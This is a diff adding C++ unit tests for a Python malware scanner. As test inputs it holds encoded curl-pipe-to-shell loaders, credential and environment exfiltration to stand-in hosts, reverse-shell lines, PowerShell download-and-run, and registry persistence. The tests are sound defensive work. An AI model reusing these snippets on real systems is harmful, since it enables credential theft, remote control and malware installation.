@@ -1,0 +1,333 @@
+// One-line rule tests over synthetic Python sources: behaviours, flows,
+// decoded payloads and concealment signals, each through the whole Python
+// pass (parse -> resolve/fold with the decoders -> rules).
+#include "analysis/python_analysis.h"
+
+#include <gtest/gtest.h>
+
+#include <algorithm>
+
+#include "analysis/rules.h"
+#include "util/gzip.h"
+
+namespace pyward {
+namespace {
+
+const RuleSet& Rules() {
+  static RuleSet* rules = [] {
+    auto* r = new RuleSet;
+    std::string err;
+    EXPECT_TRUE(r->LoadDefault(&err)) << err;
+    return r;
+  }();
+  return *rules;
+}
+
+std::vector<Finding> Analyze(std::string_view code, Phase phase = Phase::kImport,
+                             bool install = false) {
+  PythonSource src;
+  src.path = install ? "setup.py" : "pkg/__init__.py";
+  src.text = code;
+  src.phase = phase;
+  src.install_file = install;
+  std::vector<Finding> out;
+  AnalyzePython(Rules().python_engines(), src, &out);
+  return out;
+}
+
+const Finding* Find(const std::vector<Finding>& fs, std::string_view rule) {
+  for (const Finding& f : fs)
+    if (f.rule == rule) return &f;
+  return nullptr;
+}
+
+std::string Rules(const std::vector<Finding>& fs) {
+  std::string s;
+  for (const Finding& f : fs) s += f.rule + "(" + std::string(SeverityName(f.severity)) + ") ";
+  return s;
+}
+
+// The finding of `rule` for `code`, with at least `min` severity.
+::testing::AssertionResult HasFinding(std::string_view code, std::string_view rule,
+                                      Severity min = Severity::kInfo,
+                                      Phase phase = Phase::kImport, bool install = false) {
+  auto fs = Analyze(code, phase, install);
+  const Finding* f = Find(fs, rule);
+  if (!f) return ::testing::AssertionFailure() << "no " << rule << " in: " << Rules(fs);
+  if (f->severity < min)
+    return ::testing::AssertionFailure() << rule << " is only " << SeverityName(f->severity);
+  return ::testing::AssertionSuccess();
+}
+
+#define ExpectFinding(code, ...) EXPECT_TRUE(HasFinding(code, __VA_ARGS__))
+#define ExpectNoFinding(code, rule) \
+  EXPECT_EQ(Find(Analyze(code), rule), nullptr) << Rules(Analyze(code))
+
+// --- Decoded payloads (issue 4) --------------------------------------------
+const char kB64[] =
+    "aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL3guc2ggfCBzaCcpCg==";
+const char kZlibB64[] =
+    "eJzLzC3ILypRyC/myi/WK64sLknN1VBPLi3KUcgoKSmw0tdPrUjMLchJ1cvMK0vMyUzRr9ArzlCoUSjOUNfkAgC4gxV8";
+
+TEST(Payloads, ExecOfBase64IsDecodedAndJudged) {
+  auto fs = Analyze(std::string("import base64\nexec(base64.b64decode('") + kB64 + "'))\n");
+  const Finding* decoded = Find(fs, "payload-decoded");
+  ASSERT_NE(decoded, nullptr) << Rules(fs);
+  EXPECT_EQ(decoded->chain, "base64 -> exec");
+  EXPECT_NE(decoded->decoded.find("os.system"), std::string::npos);
+  const Finding* dl = Find(fs, "download-exec");
+  ASSERT_NE(dl, nullptr) << Rules(fs);
+  EXPECT_EQ(dl->file, "pkg/__init__.py#2");
+  EXPECT_EQ(dl->chain, "base64 -> exec");
+  EXPECT_EQ(dl->severity, Severity::kCritical);
+  ExpectFinding(std::string("import base64\nexec(base64.b64decode('") + kB64 + "'))\n",
+                "exec-decoded", Severity::kCritical);
+}
+
+TEST(Payloads, AliasesAndBuiltinsLookups) {
+  ExpectFinding(std::string("from base64 import b64decode as d\ne = eval\nexec(d('") + kB64 + "'))\n",
+                "download-exec");
+  ExpectFinding(std::string("import zlib, base64\ngetattr(__builtins__, 'ex'+'ec')(zlib.decompress("
+                            "base64.b64decode('") + kZlibB64 + "')))\n",
+                "exec-decoded");
+  ExpectFinding(std::string("import base64\nglobals()['exec'](base64.b64decode('") + kB64 + "'))\n",
+                "download-exec");
+  ExpectFinding(std::string("b = __import__('ba'+'se64')\nx = '") + kB64 +
+                    "'\nexec(b.b64decode(x))\n",
+                "download-exec");
+}
+
+TEST(Payloads, ZlibChainIsShown) {
+  auto fs = Analyze(std::string("import zlib, base64\nexec(zlib.decompress(base64.b64decode('") +
+                    kZlibB64 + "')))\n");
+  const Finding* dl = Find(fs, "download-exec");
+  ASSERT_NE(dl, nullptr) << Rules(fs);
+  EXPECT_EQ(dl->chain, "base64 -> zlib -> exec");
+}
+
+TEST(Payloads, FiveLayersBlind) {
+  // zlib -> base64 -> bz2 -> base32 -> lzma -> base64, left as a loose string.
+  const char blob[] =
+      "/Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj4ADPAK5dACSShf3aVAYd6Wpm6nU62Lyr6v21TirI07GbyjHSNGgzDS2C7Zf04NeU"
+      "z3+3RIuv+14Sf0jV7xHPnr+cf5eH0fwlkVPYK7zU2agDlC1Io5K6t75jzgSK9XdAKcAGBxMrw2ZSGPYr0ocBL255IMZ1ae7c"
+      "oriFqlcwYlDD0tm9k5Izqx14XSTz+ysuOahFgq5LcxzwjbHzcpnrZMD5VHUyGR38rP9DgTQX8qcs4Iae4AAAAAiIfwU8sioF"
+      "AAHKAdABAAARE9BpscRn+wIAAAAABFla";
+  auto fs = Analyze(std::string("DATA = '") + blob + "'\nrun(DATA)\n");
+  const Finding* dl = Find(fs, "download-exec");
+  ASSERT_NE(dl, nullptr) << Rules(fs);
+  EXPECT_EQ(std::count(dl->chain.begin(), dl->chain.end(), '>'), 5) << dl->chain;
+}
+
+TEST(Payloads, HexRot13AndReversedStrings) {
+  ExpectFinding(
+      "exec(bytes.fromhex('696d706f7274206f730a6f732e73797374656d28276375726c20687474703a2f2f6578616d"
+      "706c652e696e76616c69642f782e7368207c20736827290a'))\n",
+      "download-exec");
+  ExpectFinding(
+      "import codecs\nexec(codecs.decode('vzcbeg bf\\nbf.flfgrz(\\'phey uggc://rknzcyr.vainyvq/k.fu "
+      "| fu\\')\\n', 'rot13'))\n",
+      "download-exec");
+  ExpectFinding("import os\nos.system(')hs | hs.x/dilavni.elpmaxe//:ptth lruc'[::-1])\n",
+                "download-exec");
+  ExpectFinding("import os\nos.system(''.join(chr(c) for c in [99,117,114,108,32,104,116,116,112,"
+                "58,47,47,120,32,124,32,115,104]))\n",
+                "download-exec");
+}
+
+TEST(Payloads, FernetWithKeyInCode) {
+  ExpectFinding(
+      "from cryptography.fernet import Fernet\n"
+      "k = b'aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789_-abcde='\n"
+      "exec(Fernet(k).decrypt(b'gAAAAABrA6W8kaem7CHMf-q4O88ICXN0inSb03s64xMwgEulB2HB-Sse-FmCOTcAgOfGXm"
+      "gFw87Q8qJ8r3I0IDcOpBIXUdOEetTGonISBTSnQ-8v3bxaZ5Yq8oPy7LTgYjVoeB2MAdgSZtFqoKLvqE6G1rm7ViR_gw=='"
+      "))\n",
+      "download-exec", Severity::kCritical);
+}
+
+TEST(Payloads, PowerShellEncodedCommand) {
+  auto fs = Analyze(
+      "import subprocess\nsubprocess.Popen(['powershell', '-EncodedCommand', "
+      "'SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAALQBVAHIAaQAgAGgAdAB0AHAAOgAvAC8AZQB4AGEAbQBw"
+      "AGwAZQAuAGkAbgB2AGEAbABpAGQALwBhAC4AZQB4AGUAIAAtAE8AdQB0AEYAaQBsAGUAIAAkAGUAbgB2ADoAVABFAE0A"
+      "UABcAGEALgBlAHgAZQA7ACAAUwB0AGEAcgB0AC0AUAByAG8AYwBlAHMAcwAgACQAZQBuAHYAOgBUAEUATQBQAFwAYQAu"
+      "AGUAeABlAA=='])\n");
+  const Finding* dl = Find(fs, "download-exec");
+  ASSERT_NE(dl, nullptr) << Rules(fs);
+  EXPECT_NE(dl->chain.find("powershell -enc"), std::string::npos);
+}
+
+TEST(Payloads, MarshalCodeObjectsAreRecognised) {
+  auto fs = Analyze(
+      "import marshal, zlib, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode("
+      "'eJx7zIAEmKH0Zz0gMZ0hhSGFMYchioGJIZUhixGmKIVpGZC9Gs5nBKoKZtBkfgni+N1irNBkusWUX3yLrbiyuCQ1dy"
+      "XDZ5DEL2abYrtfHDa5+SmlOal2RZxgnQwMxYpA4gMzIyPjDQbOBjAEMZhaODuUG/la+BrAsIgdqAoAedIhfw=='))))\n");
+  const Finding* d = Find(fs, "payload-decoded");
+  ASSERT_NE(d, nullptr) << Rules(fs);
+  EXPECT_NE(d->chain.find("marshal"), std::string::npos);
+  EXPECT_NE(d->decoded.find("system"), std::string::npos);
+  ASSERT_NE(Find(fs, "exec-decoded"), nullptr);
+}
+
+TEST(Payloads, BombInAStringIsRefused) {
+  // 64 MB of zeros, gzip-compressed to a few dozen KB, past the 8 MB limit
+  // of one decode step: nothing decodes, and nothing is allocated for it.
+  std::string bomb, err;
+  ASSERT_TRUE(Gzip(std::string(64 << 20, '\0'), &bomb, &err)) << err;
+  static const char kHex[] = "0123456789abcdef";
+  std::string hex;
+  for (unsigned char c : bomb) {
+    hex += kHex[c >> 4];
+    hex += kHex[c & 15];
+  }
+  auto fs = Analyze("import gzip\nexec(gzip.decompress(bytes.fromhex('" + hex + "')))\n");
+  EXPECT_EQ(Find(fs, "payload-decoded"), nullptr) << Rules(fs);
+  EXPECT_EQ(Find(fs, "exec-decoded"), nullptr) << Rules(fs);
+}
+
+// --- Behaviours and flows (issue 5) ----------------------------------------
+TEST(Behaviour, EnvironmentSentOut) {
+  ExpectFinding(
+      "import os, urllib.request, urllib.parse\n"
+      "data = dict(os.environ)\n"
+      "body = urllib.parse.urlencode(data).encode()\n"
+      "req = urllib.request.Request('https://collector.example/c', data=body)\n"
+      "urllib.request.urlopen(req)\n",
+      "exfiltration", Severity::kCritical);
+}
+
+TEST(Behaviour, HostFactsInAQueryString) {
+  ExpectFinding(
+      "import requests, socket, getpass\n"
+      "info = {'h': socket.gethostname(), 'u': getpass.getuser()}\n"
+      "requests.get('https://x.example/', params=info)\n",
+      "exfiltration", Severity::kHigh);
+}
+
+TEST(Behaviour, FlowThroughFunctionReturnAndFString) {
+  auto fs = Analyze(
+      "import os, requests, base64\n"
+      "def grab():\n"
+      "    return open(os.path.expanduser('~/.aws/credentials')).read()\n"
+      "def send():\n"
+      "    payload = base64.b64encode(grab().encode())\n"
+      "    requests.post(f'https://x.example/{payload}')\n"
+      "send()\n");
+  const Finding* f = Find(fs, "exfiltration");
+  ASSERT_NE(f, nullptr) << Rules(fs);
+  EXPECT_EQ(f->severity, Severity::kCritical);
+  EXPECT_NE(f->message.find("grab()"), std::string::npos) << f->message;
+}
+
+TEST(Behaviour, SecretOnlyInAFunctionNobodyCallsWeighsLess) {
+  auto fs = Analyze(
+      "import os, requests\n"
+      "def report():\n"
+      "    requests.post('https://x.example/', json=dict(os.environ))\n");
+  const Finding* f = Find(fs, "exfiltration");
+  ASSERT_NE(f, nullptr) << Rules(fs);
+  EXPECT_LT(f->severity, Severity::kHigh);
+  EXPECT_EQ(f->phase, Phase::kRuntime);
+}
+
+TEST(Behaviour, DownloadThenRun) {
+  ExpectFinding(
+      "import urllib.request, os\n"
+      "urllib.request.urlretrieve('https://x.example/a.exe', 'a.exe')\n"
+      "os.startfile('a.exe')\n",
+      "download-exec", Severity::kCritical);
+  ExpectFinding(
+      "import requests, subprocess, os\n"
+      "r = requests.get('https://x.example/p')\n"
+      "with open('p.exe', 'wb') as f:\n"
+      "    f.write(r.content)\n"
+      "subprocess.Popen('p.exe')\n",
+      "download-exec", Severity::kCritical);
+  ExpectFinding(
+      "import requests\nexec(requests.get('https://x.example/c.py').text)\n",
+      "exec-remote", Severity::kCritical);
+}
+
+TEST(Behaviour, ImportTimeNetworkAndProcesses) {
+  ExpectFinding("import requests\nrequests.get('https://x.example/ping')\n", "network-at-import");
+  ExpectNoFinding("import requests\ndef ping():\n    requests.get('https://x.example/ping')\n",
+                  "network-at-import");
+  ExpectNoFinding(
+      "import requests\nif __name__ == '__main__':\n    requests.get('https://x.example/')\n",
+      "network-at-import");
+  ExpectFinding("import subprocess\ndef go():\n    subprocess.run(['ls'])\ngo()\n",
+                "process-at-import");
+  ExpectFinding(
+      "import threading, subprocess\ndef go():\n    subprocess.run(['ls'])\n"
+      "threading.Thread(target=go).start()\n",
+      "process-at-import");
+}
+
+TEST(Behaviour, ReverseShell) {
+  ExpectFinding(
+      "import socket, os, pty\n"
+      "s = socket.socket()\ns.connect(('10.0.0.1', 4444))\n"
+      "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')\n",
+      "reverse-shell", Severity::kCritical);
+  ExpectFinding("import os\nos.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')\n",
+                "reverse-shell");
+}
+
+TEST(Behaviour, PersistenceHiddenLaunchAndPip) {
+  ExpectFinding(
+      "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
+      "'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run', 0, winreg.KEY_SET_VALUE)\n"
+      "winreg.SetValueEx(k, 'x', 0, winreg.REG_SZ, 'C:\\\\x.exe')\n",
+      "persistence");
+  ExpectFinding("import subprocess\nsubprocess.Popen(['pythonw', 'x.py'])\n", "launch-hidden");
+  ExpectFinding(
+      "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', "
+      "'x'])\n",
+      "runtime-pip-install", Severity::kHigh);
+}
+
+TEST(Behaviour, ExecOfComputedCode) {
+  ExpectFinding("import base64\ndef f(x):\n    return x\nexec(base64.b64decode(f('a')))\n",
+                "exec-dynamic");
+}
+
+TEST(Behaviour, QuietForOrdinaryCode) {
+  for (const char* code : {
+           "import os\nHOME = os.environ.get('HOME')\nprint(HOME)\n",
+           "import subprocess\ndef version():\n    return subprocess.check_output(['git', "
+           "'describe'])\n",
+           "import requests\ndef fetch(url):\n    return requests.get(url).json()\n",
+           "import socket\nip = socket.gethostbyname(socket.gethostname())\n",
+           "import json\nconfig = json.loads(open('config.json').read())\n",
+       }) {
+    auto fs = Analyze(code);
+    for (const Finding& f : fs)
+      EXPECT_LT(f.severity, Severity::kMedium) << code << " -> " << f.rule << ": " << f.message;
+  }
+}
+
+// --- Concealment signals ----------------------------------------------------
+TEST(Concealment, CodePushedRight) {
+  std::string code = "import os\nx = 1" + std::string(300, ' ') + ";os.system('id')\n";
+  ExpectFinding(code, "code-after-spaces", Severity::kHigh);
+  ExpectNoFinding("def f():\n" + std::string(150, ' ') + "return 1\n", "code-after-spaces");
+}
+
+TEST(Concealment, InvisibleAndMixedScriptIdentifiers) {
+  ExpectFinding("a\u200bb = 1\n", "obfuscated-identifier", Severity::kHigh);
+  ExpectFinding("p\u0430yload = 1\n", "obfuscated-identifier");  // Cyrillic a
+  ExpectNoFinding("\u0434\u0430\u043d\u043d\u044b\u0435 = 1\n", "obfuscated-identifier");
+}
+
+TEST(Concealment, EntropyAndPyArmor) {
+  std::string blob;
+  uint32_t x = 12345;
+  for (int i = 0; i < 4000; ++i) {
+    x = x * 1103515245 + 12345;
+    blob += "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[(x >> 16) % 64];
+  }
+  ExpectFinding("D = '" + blob + "'\n", "high-entropy-blob");
+  ExpectFinding("from pytransform import pyarmor_runtime\npyarmor_runtime()\n", "pyarmor-stub");
+}
+
+}  // namespace
+}  // namespace pyward
